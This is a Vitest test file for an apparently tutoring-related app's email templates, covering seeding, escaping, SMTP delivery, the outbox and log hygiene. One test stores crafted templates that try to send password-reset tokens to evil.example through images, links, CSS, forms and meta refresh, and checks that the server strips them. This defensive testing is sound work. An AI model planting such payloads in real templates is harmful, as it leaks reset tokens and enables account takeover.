import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emailTemplateSeeds, seedEmailTemplates } from '../../server/db/seed/emailTemplates.js';
import { renderEmailTemplate } from '../../server/services/emailTemplates.js';
import { sendMail } from '../../server/services/mail.js';
import { sanitizeHtml } from '../../server/services/sanitizeHtml.js';
import { unknownVariables } from '../../server/services/templateText.js';
import { createTestAccount, type TestAccount } from '../helpers/accounts.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { createPerson, outboxFor, startAppWithLog, startFakeSmtp, tokenFromLatestMail, type FakeSmtp } from './auth-support.js';

describe('email templates seed', () => {
  it('has the seven templates, each using only the variables it lists', () => {
    expect(emailTemplateSeeds.map((seed) => seed.key).sort()).toEqual(
      ['booking-cancelled', 'booking-confirmed', 'forgot-password', 'report-received', 'set-password', 'verify-email', 'welcome'].sort(),
    );
    for (const seed of emailTemplateSeeds) {
      expect(unknownVariables(seed.subject + seed.bodyHtml, seed.variables), seed.key).toEqual([]);
      expect(seed.name && seed.description && seed.subject, seed.key).toBeTruthy();
    }
  });

  it('is plain, safe HTML that the template editor keeps as it is', () => {
    for (const seed of emailTemplateSeeds) {
      expect(seed.bodyHtml, seed.key).not.toMatch(/<script|<style|on\w+=/i);
      expect(sanitizeHtml(seed.bodyHtml), seed.key).toBe(seed.bodyHtml);
    }
  });
});

describe('rendering and sending email', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(async () => t.close());

  it('seeds templates on first start only where keys are missing; edits are kept', async () => {
    const { seedOnFirstStart } = await import('../../server/db/seed/index.js');
    await seedOnFirstStart(t.db, t.config);
    await t.db.updateTable('emailTemplates').set({ subject: 'Edited {{appName}}' }).where('key', '=', 'welcome').execute();
    await t.db.deleteFrom('emailTemplates').where('key', '=', 'report-received').execute();
    await seedOnFirstStart(t.db, t.config);
    const rows = await t.db.selectFrom('emailTemplates').select(['key', 'subject', 'variables']).execute();
    expect(rows).toHaveLength(7);
    expect(rows.find((row) => row.key === 'welcome')!.subject).toBe('Edited {{appName}}');
    expect(rows.find((row) => row.key === 'forgot-password')!.variables).toEqual(['appName', 'displayName', 'link', 'expiresInMinutes']);
  });

  it('renders the template as staff edited it, escaping values in HTML', async () => {
    await t.db
      .updateTable('emailTemplates')
      .set({ subject: 'Hi {{displayName}}', bodyHtml: '<p>Hello <strong>{{displayName}}</strong>, <a href="{{link}}">go</a></p>' })
      .where('key', '=', 'welcome')
      .execute();
    const mail = await renderEmailTemplate(t.db, 'welcome', { displayName: 'Ann <b>&</b>', link: 'https://x.test/a?b=1&c=2' });
    expect(mail.subject).toBe('Hi Ann <b>&</b>');
    expect(mail.html).toContain('Hello <strong>Ann &lt;b&gt;&amp;&lt;/b&gt;</strong>');
    expect(mail.html).toContain('<title>Hi Ann &lt;b&gt;&amp;&lt;/b&gt;</title>');
    expect(mail.text).toBe('Hello Ann <b>&</b>, go (https://x.test/a?b=1&c=2)');
  });

  it('falls back to the seed text when a template is missing', async () => {
    await t.db.deleteFrom('emailTemplates').where('key', '=', 'booking-confirmed').execute();
    const mail = await renderEmailTemplate(t.db, 'booking-confirmed', { tutorName: 'Ada', subjectName: 'Algebra' });
    expect(mail.subject).toBe('Your Algebra lesson with Ada is confirmed');
  });

  it('keeps mail in the outbox when SMTP_URL is not set', async () => {
    const { outboxId, delivery } = await sendMail(t.app, { templateKey: 'welcome', subject: 'S', html: '<p>H</p>', text: 'H', to: 'keep@example.test' });
    await delivery;
    const row = await t.db.selectFrom('outbox').selectAll().where('id', '=', outboxId).executeTakeFirstOrThrow();
    expect(row).toMatchObject({ toAddress: 'keep@example.test', sentAt: null, error: null });
  });
});

describe('SMTP delivery', () => {
  let smtp: FakeSmtp;
  let t: TestApp;
  beforeAll(async () => {
    smtp = await startFakeSmtp();
    t = await startTestApp({ SMTP_URL: smtp.url, MAIL_FROM: 'Tutor Admin <no-reply@tutor.test>' });
  });
  afterAll(async () => {
    await t.close();
    await smtp.close();
  });

  it('delivers through nodemailer and records the delivery in the outbox', async () => {
    const person = await createPerson(t);
    const { delivery, outboxId } = await sendMail(t.app, {
      ...(await renderEmailTemplate(t.db, 'welcome', { displayName: person.displayName, link: 'https://x.test/login', appName: 'Tutor Admin' })),
      to: person.email,
    });
    await delivery;
    expect(smtp.messages).toHaveLength(1);
    expect(smtp.messages[0]!.to.join()).toContain(person.email);
    expect(smtp.messages[0]!.data).toContain('Subject: Welcome to Tutor Admin');
    const row = await t.db.selectFrom('outbox').selectAll().where('id', '=', outboxId).executeTakeFirstOrThrow();
    expect(row.sentAt).toBeInstanceOf(Date);
    expect(row.error).toBeNull();
  });

  it('forgot-password answers at once and the mail arrives', async () => {
    const person = await createPerson(t);
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/auth/forgotPassword', payload: { email: person.email } });
    expect(res.statusCode).toBe(200);
    await expect.poll(() => smtp.messages.some((message) => message.to.join().includes(person.email)), { timeout: 15_000 }).toBe(true);
    await expect.poll(async () => (await outboxFor(t, person.email))[0]?.sentAt ?? null, { timeout: 15_000 }).toBeInstanceOf(Date);
  });
});

describe('a mail server that is down', () => {
  it('records the error in the outbox; the caller is not failed', async () => {
    const smtp = await startFakeSmtp();
    const deadUrl = smtp.url;
    await smtp.close();
    const t = await startTestApp({ SMTP_URL: deadUrl });
    try {
      const { delivery, outboxId } = await sendMail(t.app, { templateKey: 'welcome', subject: 'S', html: '<p>H</p>', text: 'H', to: 'x@example.test' });
      await delivery;
      const row = await t.db.selectFrom('outbox').selectAll().where('id', '=', outboxId).executeTakeFirstOrThrow();
      expect(row.sentAt).toBeNull();
      expect(row.error).toMatch(/ECONNREFUSED|connect/i);
    } finally {
      await t.close();
    }
  });
});

describe('the link in the log', () => {
  it('is printed when the operator sets LOG_MAIL_LINKS=true, so a developer without SMTP can follow it', async () => {
    const t = await startAppWithLog({ NODE_ENV: 'development', LOG_MAIL_LINKS: 'true' });
    try {
      const person = await createPerson(t);
      await t.app.inject({ method: 'POST', url: '/api/v1/auth/forgotPassword', payload: { email: person.email } });
      await t.app.afterReply.settled();
      expect(t.log()).toMatch(/"link":"http:\/\/localhost:3000\/reset-password\/[A-Za-z0-9_-]{43}"/);
    } finally {
      await t.close();
    }
  });

  for (const NODE_ENV of ['development', 'production']) {
    it(`is not printed by default (NODE_ENV=${NODE_ENV}, as npm start runs): the log points to the outbox`, async () => {
      const t = await startAppWithLog({ NODE_ENV });
      try {
        const person = await createPerson(t);
        await t.app.inject({ method: 'POST', url: '/api/v1/auth/forgotPassword', payload: { email: person.email } });
        await t.app.afterReply.settled();
        expect(t.log()).not.toMatch(/\/reset-password\/|\/verify\//);
        expect(t.log()).toContain('npm run outbox shows it');
        expect(await outboxFor(t, person.email)).toHaveLength(1);
      } finally {
        await t.close();
      }
    });
  }
});

describe('a stored template that puts the link inside an attribute or another address', () => {
  const publicUrl = 'https://tutors.example';
  // As a template could hold it from an earlier version or a direct database change: the server must still not leak the link.
  const leakingBody = [
    '<p><img src="https://evil.example/p.png?t={{link}}"></p>',
    '<p><a href="https://evil.example/r?u={{link}}">Open</a></p>',
    '<p><a href="{{link}}" title="{{link}}">Reset</a></p>',
    '<p>https://evil.example/r?u={{link}}</p>',
    '<p><span style="background:url(https://evil.example/p.png?t={{link}})">x</span></p>',
    '<p><img src="https://tutors.example/logo.png" srcset="https://evil.example/p.png?t={{link}} 2x"></p>',
    '<form action="https://evil.example/r"><input name="t" value="{{link}}"><textarea name="u">{{link}}</textarea><button>Go</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r?u={{link}}">',
    '<table background="https://evil.example/p.png?t={{link}}"><tr><td>x</td></tr></table>',
    '<p><img src="{{link}}"></p>',
  ].join('\n');
  let t: TestApp;
  let boss: TestAccount;
  beforeAll(async () => {
    t = await startTestApp({ PUBLIC_URL: publicUrl });
    boss = await createTestAccount(t, 'superAdmin');
    await seedEmailTemplates(t.db);
    await t.db
      .updateTable('emailTemplates')
      .set({ subject: 'Go to https://evil.example/r?u={{link}}', bodyHtml: leakingBody })
      .where('key', 'in', ['forgot-password', 'set-password', 'verify-email'])
      .execute();
  });
  afterAll(async () => t.close());

  /** Each run of address-like characters in the mail that holds the token. */
  const addressesWith = (token: string, content: string) => [...content.matchAll(/[^\s"'<>]+/g)].map(([run]) => run).filter((run) => run.includes(token));

  async function expectLinkOnlyToPublicUrl(to: string, templateKey: string, path: 'reset-password' | 'verify') {
    const [mail] = await outboxFor(t, to);
    expect(mail!.templateKey).toBe(templateKey);
    const token = await tokenFromLatestMail(t, to, path);
    const link = `${publicUrl}/${path}/${token}`;
    expect(mail!.html).toContain(`<a href="${link}" rel="noopener noreferrer">Reset</a>`);
    for (const part of [mail!.html, mail!.text]) {
      expect(addressesWith(token, part).length).toBeGreaterThan(0);
      // In the plain text a link reads "label (address)".
      for (const address of addressesWith(token, part)) expect(address.replace(/^\((.*)\)$/, '$1')).toBe(link);
    }
    expect(mail!.html.match(/<img[^>]*>/g)).toEqual(['<img src="https://tutors.example/logo.png" />']);
    expect(mail!.html).not.toMatch(/<form|<input|<textarea|<base|http-equiv|background=|srcset|url\(/);
    expect(mail!.subject).not.toContain(token);
    expect(mail!.subject).toBe('Go to https://evil.example/r?u=');
  }

  it('mails a superAdmin the reset link only as a link to PUBLIC_URL', async () => {
    const superAdmin = await createPerson(t, { userType: 'superAdmin' });
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/auth/forgotPassword', payload: { email: superAdmin.email } });
    expect(res.statusCode).toBe(200);
    await expectLinkOnlyToPublicUrl(superAdmin.email, 'forgot-password', 'reset-password');
  });

  it('mails the choose-a-password and the confirm-address links only as links to PUBLIC_URL', async () => {
    const register = (body: object) => t.app.inject({ method: 'POST', url: '/api/v1/admin/register', headers: boss.headers, payload: body });
    const student = 'leak-student@example.test';
    expect((await register({ userType: 'user', displayName: 'New Student', email: student })).statusCode).toBe(200);
    await expectLinkOnlyToPublicUrl(student, 'set-password', 'reset-password');
    const tutor = 'leak-tutor@example.test';
    expect((await register({ userType: 'tutor', displayName: 'New Tutor', email: tutor, password: 'Set by staff 12345' })).statusCode).toBe(200);
    await expectLinkOnlyToPublicUrl(tutor, 'verify-email', 'verify');
  });
});
